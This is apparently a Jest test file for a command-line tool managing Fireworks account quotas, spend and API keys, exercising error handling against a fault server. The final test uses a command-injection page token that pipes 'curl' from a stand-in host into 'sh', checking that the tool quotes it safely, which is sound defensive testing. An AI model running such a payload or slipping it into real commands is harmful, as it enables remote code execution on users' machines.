import {afterEach, describe, expect, test} from '@jest/globals'
import {instantClock} from '../support/connection.js'
import {startFaultServer, type FaultServer, type Reply, type Seen} from '../support/fault-server.js'
import {someOf} from '../support/property-runs.js'
import {runCli} from '../support/run-cli.js'

const SUSPENDED =
  'Account acme is suspended, possibly due to reaching the monthly spending limit or failure to pay past invoices.'
const ACCOUNT = {name: 'accounts/acme', state: 'READY', suspendState: 'UNSUSPENDED'}
const SPEND = {name: 'accounts/acme/quotas/monthly-spend-usd', value: '400', maxValue: '500', usage: 10}

let server: FaultServer | null = null
afterEach(async () => {
  await server?.close()
  server = null
})

async function against(reply: (seen: Seen) => Reply) {
  server = await startFaultServer(reply)
  return {FIREWORKS_API_KEY: 'fw_NotARealKey0123456789', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
}

describe('a suspension under a 429', () => {
  test('is told as such by `status`, which asks each question once and exits 5', async () => {
    const env = await against(() => ({status: 429, body: {code: 8, message: SUSPENDED}}))
    const {code, stdout} = await runCli(['status', '--json'], {env})
    expect(code).toBe(5)
    expect(stdout).toContain('suspended')
    expect(stdout).not.toContain('backoff')
    const asked = server!.seen.map(({url}) => url)
    expect(new Set(asked).size).toBe(asked.length)
  })
})

describe('the answer about another quota', () => {
  test('leads to no change: nothing is sent', async () => {
    const wrong = {name: 'accounts/acme/quotas/global--h100-count', value: '8', maxValue: '500', usage: 1}
    const env = await against(({url}) => ({body: url.includes('/quotas/') ? wrong : ACCOUNT}))
    const {code, stderr} = await runCli(['quota', 'set', 'monthly-spend-usd', '10', '--yes'], {env})
    expect(code).toBe(7)
    expect(stderr).toContain('global--h100-count')
    expect(server!.seen.filter(({method}) => method === 'PATCH')).toEqual([])
  })
})

describe('a gateway that rejects the field mask', () => {
  test('and replaces the max without it is an error with the way out', async () => {
    let now = SPEND
    const env = await against(({method, url}) => {
      if (method !== 'PATCH') return {body: url.includes('/quotas/') ? now : ACCOUNT}
      if (url.includes('updateMask')) return {status: 400, body: {code: 3, message: 'unknown field: updateMask'}}
      now = {...SPEND, value: '450', maxValue: '450'}
      return {body: now}
    })
    const {code, stderr} = await runCli(['quota', 'set', 'monthly-spend-usd', '450', '--yes'], {env})
    expect(stderr).toContain('its max went from $500 to $450')
    expect(stderr).toContain('inquiries@fireworks.ai')
    expect(code).toBe(1)
  })

  test('and keeps the max is no more than a change', async () => {
    let now = SPEND
    const env = await against(({method, url}) => {
      if (method !== 'PATCH') return {body: url.includes('/quotas/') ? now : ACCOUNT}
      if (url.includes('updateMask')) return {status: 400, body: {code: 3, message: 'unknown field: updateMask'}}
      now = {...SPEND, value: '450'}
      return {body: now}
    })
    expect((await runCli(['quota', 'set', 'monthly-spend-usd', '450', '--yes'], {env})).code).toBe(0)
  })
})

/** Each list that a command reads, with an item of another account. */
const FOREIGN: readonly (readonly [list: string, item: object, argv: readonly string[]])[] = [
  ['quotas', {name: 'accounts/other/quotas/global--h100-count', value: '8'}, ['quota', 'list']],
  ['deployments', {name: 'accounts/other/deployments/theirs'}, ['quota', 'explain', 'global--h100-count']],
  ['rlorTrainerJobs', {name: 'accounts/other/rlorTrainerJobs/theirs'}, ['quota', 'explain', 'training-h100-count']],
  ['deployedModels', {name: 'accounts/other/deployedModels/theirs'}, ['quota', 'explain', 'deployed-model-count']],
  [
    'batchInferenceJobs',
    {name: 'accounts/other/batchInferenceJobs/theirs'},
    ['quota', 'explain', 'job-submission-count'],
  ],
  ['apiKeys', {name: 'accounts/other/users/u/apiKeys/theirs', keyId: 'theirs'}, ['key', 'list']],
  ['apiKeys', {name: 'accounts/other/users/u/apiKeys/theirs', keyId: 'theirs'}, ['key', 'check']],
]
const QUOTAS = ['global--h100-count', 'training-h100-count', 'deployed-model-count', 'job-submission-count'].map(
  id => ({
    name: `accounts/acme/quotas/${id}`,
    value: '8',
    usage: 8,
  }),
)

test.each(FOREIGN)('an item of another account among the %s is used by no command', async (list, item, argv) => {
  server = await startFaultServer(({url}) => {
    const last = url.split('?')[0]!.split('/').at(-1)!
    if (last === list) return {body: {[list]: list === 'quotas' ? [...QUOTAS, item] : [item]}}
    if (last === 'quotas') return {body: {quotas: QUOTAS}}
    return last === 'acme' ? {body: {name: 'accounts/acme', suspendState: 'UNSUSPENDED'}} : {body: {[last]: []}}
  })
  const env = {FIREWORKS_API_KEY: 'plain-key', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
  for (const form of [[], ['--json'], ['-o', 'csv']]) {
    const {stdout, code} = await runCli([...argv, ...form], {env, clock: instantClock()})
    expect([form, code]).toEqual([form, 7])
    expect(stdout.replace(/about `accounts\/other[^`]*`/, '')).not.toContain('theirs')
  }
})

/** What reads pages, each by a code of its own. */
const PAGED = [[['quota', 'list']], [['spend', '--by', 'model']], [['key', 'list']], [['api', 'quotas', '--paginate']]]

test.each(someOf(PAGED, 2))(
  'pages without end, each empty and with a new token, end `fireq %j`',
  async argv => {
    let pages = 0
    server = await startFaultServer(({url, body}) => {
      if (/\/quotas\/|accounts\/acme$|\/billing\//.test(url.split('?')[0]!))
        return {body: {name: 'accounts/acme', lineItems: []}}
      pages++
      return {body: {rows: [], nextPageToken: `page ${pages} of ${url.length + body.length}`}}
    })
    const env = {FIREWORKS_API_KEY: 'plain-key', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
    const {code, stderr} = await runCli(argv, {env})
    expect({code, stderr}).toEqual({code: 7, stderr: expect.stringMatching(/did not end within|without end/)})
    expect(server.seen.length).toBeLessThan(8100)
  },
  60_000,
)

test('the token of a next page is one word of the printed flag', async () => {
  server = await startFaultServer([{body: {quotas: QUOTAS, nextPageToken: 'x;curl${IFS}evil|sh'}}])
  const env = {FIREWORKS_API_KEY: 'plain-key', FIREWORKS_ACCOUNT_ID: 'acme', FIREWORKS_BASE_URL: server.url}
  const {stderr} = await runCli(['quota', 'list', '--no-paginate'], {env})
  expect(stderr).toContain("--page-token 'x;curl${IFS}evil|sh'")
})
